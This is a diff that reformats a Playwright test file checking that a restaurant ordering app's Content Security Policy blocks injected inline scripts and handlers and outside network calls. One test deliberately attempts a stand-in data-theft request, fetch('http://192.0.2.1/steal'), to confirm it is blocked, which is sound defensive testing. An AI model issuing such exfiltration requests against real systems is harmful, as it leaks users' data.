@@ -8,7 +8,8 @@ import { createStore, expect, json, signIn, test, type Account } from './fixture
 test.describe.configure({ mode: 'serial' })
 
 /** The smallest PNG: the image upload checks the signature. */
-const PNG = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=='
+const PNG =
+  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=='
 
 /** Every CSP violation the page or any of its frames reports, as Chromium logs it and as the event says. */
 async function watchViolations(page: Page) {
@@ -17,7 +18,9 @@ async function watchViolations(page: Page) {
     if (m.text().includes('Content Security Policy')) seen.push(m.text())
   })
   await page.addInitScript(() => {
-    document.addEventListener('securitypolicyviolation', (e) => console.error(`Content Security Policy event: ${e.effectiveDirective} ${e.blockedURI}`))
+    document.addEventListener('securitypolicyviolation', (e) =>
+      console.error(`Content Security Policy event: ${e.effectiveDirective} ${e.blockedURI}`),
+    )
   })
   return seen
 }
@@ -26,10 +29,18 @@ async function watchViolations(page: Page) {
 async function seed(page: Page, owner: Account) {
   await signIn(page.request, owner)
   const s = `/api/stores/${await createStore(page.request, { name: 'CSP 測試店', code: 'CSP1' })}`
-  const dish = await json<{ id: number }>(await page.request.post(`${s}/menu`, { data: { name: '滷肉飯', basePrice: '45.00', categoryId: 'food', status: 'available', isActive: true } }))
-  await json(await page.request.post(`${s}/menu/${dish.id}/images`, { data: { imageData: PNG, mimeType: 'image/png' } }))
+  const dish = await json<{ id: number }>(
+    await page.request.post(`${s}/menu`, {
+      data: { name: '滷肉飯', basePrice: '45.00', categoryId: 'food', status: 'available', isActive: true },
+    }),
+  )
+  await json(
+    await page.request.post(`${s}/menu/${dish.id}/images`, { data: { imageData: PNG, mimeType: 'image/png' } }),
+  )
   await json(await page.request.post(`${s}/members/`, { data: { name: '王小明', phone: '0912345678' } }))
-  const table = await json<{ id: number }>(await page.request.post(`${s}/tables`, { data: { number: 'C-1', seats: 4 } }))
+  const table = await json<{ id: number }>(
+    await page.request.post(`${s}/tables`, { data: { number: 'C-1', seats: 4 } }),
+  )
   await json(await page.request.post(`${s}/tables/${table.id}/open`, { data: { guestCount: 2 } }))
   const qr = await json<{ url: string; customerUrl: string }>(await page.request.get(`${s}/tables/${table.id}/qr`))
   return { qr, tableNumber: 'C-1' }
@@ -37,7 +48,10 @@ async function seed(page: Page, owner: Account) {
 
 let links: Awaited<ReturnType<typeof seed>>
 
-test('the staff app loads its screens, QR images, downloads and printing without a CSP violation', async ({ page, owner }) => {
+test('the staff app loads its screens, QR images, downloads and printing without a CSP violation', async ({
+  page,
+  owner,
+}) => {
   const violations = await watchViolations(page)
   const signIn = await page.goto('/')
   expect(signIn!.headers()['content-security-policy']).toContain("script-src 'self'")
@@ -56,11 +70,19 @@ test('the staff app loads its screens, QR images, downloads and printing without
     await expect(ready).toBeVisible()
   }
   // The dish's photo from the API has loaded.
-  expect(await page.getByTestId('menu-item').filter({ hasText: '滷肉飯' }).locator('img').evaluate((img: HTMLImageElement) => img.naturalWidth)).toBeGreaterThan(0)
+  expect(
+    await page
+      .getByTestId('menu-item')
+      .filter({ hasText: '滷肉飯' })
+      .locator('img')
+      .evaluate((img: HTMLImageElement) => img.naturalWidth),
+  ).toBeGreaterThan(0)
 
   // Drawn in the browser as a data: image, saved through a blob, printed from a frame of its own.
   await page.goto('/tables')
-  const card = page.getByTestId('table-card').filter({ has: page.getByRole('heading', { name: links.tableNumber, exact: true }) })
+  const card = page
+    .getByTestId('table-card')
+    .filter({ has: page.getByRole('heading', { name: links.tableNumber, exact: true }) })
   await card.getByRole('button', { name: 'QR Code' }).click()
   const qr = page.getByRole('dialog', { name: `桌號 ${links.tableNumber} 的 QR Code` })
   await expect(qr.getByTestId('qr-image')).toHaveAttribute('src', /^data:image\/png;base64,/)
@@ -79,7 +101,7 @@ test('the staff app loads its screens, QR images, downloads and printing without
   expect(violations).toEqual([])
 })
 
-test('the diner\'s pages load the table\'s menu without a CSP violation', async ({ page }) => {
+test("the diner's pages load the table's menu without a CSP violation", async ({ page }) => {
   const violations = await watchViolations(page)
   for (const url of [links.qr.url, links.qr.customerUrl]) {
     const res = await page.goto(url)
@@ -89,7 +111,9 @@ test('the diner\'s pages load the table\'s menu without a CSP violation', async 
   expect(violations).toEqual([])
 })
 
-test('the policy holds in the browser: a smuggled script does not run, another site is out of reach, its own WebSocket is not', async ({ page }) => {
+test('the policy holds in the browser: a smuggled script does not run, another site is out of reach, its own WebSocket is not', async ({
+  page,
+}) => {
   const violations = await watchViolations(page)
   await page.goto('/')
   await expect(page.getByRole('tab', { name: '登入' })).toBeVisible()
@@ -103,7 +127,10 @@ test('the policy holds in the browser: a smuggled script does not run, another s
     handler.src = 'data:,'
     document.body.append(handler)
     await failed
-    const away = await fetch('http://192.0.2.1/steal').then(() => 'sent', (e: Error) => e.name)
+    const away = await fetch('http://192.0.2.1/steal').then(
+      () => 'sent',
+      (e: Error) => e.name,
+    )
     const socket = (() => {
       try {
         new WebSocket(`ws://${location.host}/mqtt`).close()
@@ -116,6 +143,11 @@ test('the policy holds in the browser: a smuggled script does not run, another s
     return { script: w.__smuggled ?? false, handler: w.__handler ?? false, away, socket }
   })
   expect(outcome).toEqual({ script: false, handler: false, away: 'TypeError', socket: 'allowed' })
-  await expect.poll(() => violations.filter((v) => v.startsWith('Content Security Policy event:')).sort())
-    .toEqual([`Content Security Policy event: connect-src http://192.0.2.1/steal`, 'Content Security Policy event: script-src-attr inline', 'Content Security Policy event: script-src-elem inline'])
+  await expect
+    .poll(() => violations.filter((v) => v.startsWith('Content Security Policy event:')).sort())
+    .toEqual([
+      `Content Security Policy event: connect-src http://192.0.2.1/steal`,
+      'Content Security Policy event: script-src-attr inline',
+      'Content Security Policy event: script-src-elem inline',
+    ])
 })
